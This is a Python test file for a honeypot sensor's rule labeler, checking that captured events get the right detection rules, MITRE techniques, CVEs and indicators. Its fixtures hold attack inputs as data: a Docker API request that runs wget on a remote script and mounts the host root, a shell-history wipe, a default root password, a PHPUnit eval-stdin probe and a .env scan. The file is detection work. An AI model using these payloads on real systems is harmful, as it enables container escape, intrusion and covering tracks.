"""The sensor's Labeler fills events as they are recorded."""

from __future__ import annotations

from datetime import UTC, datetime

from honeyguard.config import DetectSettings
from honeyguard.detect import load_labeler
from honeyguard.detect.labeler import RuleLabeler
from honeyguard.model import Connect, Download, Event, EventBody, HttpRequest, RawData, SshCommand, SshLogin
from tests.detect._support import builtin_engine, write_rules


def _event(body: EventBody, protocol: str = "http") -> Event:
    return Event(id="0190d3f0-0000-7000-8000-000000000001", ts=datetime(2026, 1, 1, tzinfo=UTC), sensor="s",
                 location="l", session="x", kind=body.__struct_config__.tag, src_ip="198.51.100.1",  # type: ignore[arg-type]
                 src_port=40000, dst_port=80, protocol=protocol, body=body)


def test_http_event_is_labelled() -> None:
    labeler = RuleLabeler(builtin_engine("hyperscan"))
    body = HttpRequest(method="POST", target="/v1.24/containers/create", version="HTTP/1.1",
                       headers=[("Host", "203.0.113.10:2375"), ("Content-Type", "application/json")],
                       body=b'{"Image":"alpine","Cmd":["sh","-c","wget http://198.51.100.7/m.sh"],'
                            b'"HostConfig":{"Binds":["/:/host"]}}')
    event = labeler.label(_event(body))
    assert {"hg-tech-docker-container-create", "hg-tech-docker-host-escape"} <= set(event.rules)
    assert "T1611" in event.techniques
    assert ("url", "http://198.51.100.7/m.sh", "download") in {(i.type, i.value, i.role) for i in event.iocs}


def test_shell_login_raw_and_download_events() -> None:
    labeler = RuleLabeler(builtin_engine("re"))
    command = labeler.label(_event(SshCommand(line="unset HISTFILE; history -c", channel="shell"), "ssh"))
    assert "hg-tech-history-wipe" in command.rules and "T1070.003" in command.techniques
    login = labeler.label(_event(SshLogin(username="root", method="password", password="xc3511"), "ssh"))
    assert "hg-tech-ssh-default-credentials" in login.rules
    tls = labeler.label(_event(RawData(reason="tls-clienthello", data=b"\x16\x03\x01\x00\xa5", size=5, sha256="")))
    assert tls.cves == []
    download = labeler.label(_event(Download(url="http://198.51.100.9/x", tool="wget", command="wget ..."), "ssh"))
    assert [(i.type, i.value, i.role) for i in download.iocs] == [("url", "http://198.51.100.9/x", "download")]
    connect = _event(Connect())
    assert labeler.label(connect) is connect


def test_load_labeler_adds_user_rule_folders(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.detect.test_cli import RULE

    folder = tmp_path / "user-rules"
    write_rules(folder, RULE)
    labeler = load_labeler(DetectSettings(rule_dirs=[str(folder)]), backend="re", builtin=False)
    event = labeler.label(_event(HttpRequest(method="POST", version="HTTP/1.1", headers=[],
                                             target="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")))
    assert event.rules == ["hg-test-cli"] and event.cves == ["CVE-2017-9841"]


def test_classify_raw_remembers_results_within_its_byte_budget() -> None:
    labeler = RuleLabeler(builtin_engine("hyperscan"), cache_bytes=64 * 2048)
    env = b"GET /.env HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"
    first = labeler.classify_raw(env)
    assert "hg-tech-dotenv-scan" in first.rules
    assert labeler.classify_raw(env) is first
    assert labeler.classify_raw(env, "other") is not first
    for i in range(400):  # more distinct requests than the budget holds: old ones are dropped
        labeler.classify_raw(b"GET /%d HTTP/1.1\r\nHost: a\r\n\r\n" % i)
    assert labeler.cache.used_bytes <= 64 * 2048
    assert labeler.classify_raw(env) is not first and labeler.classify_raw(env) == first
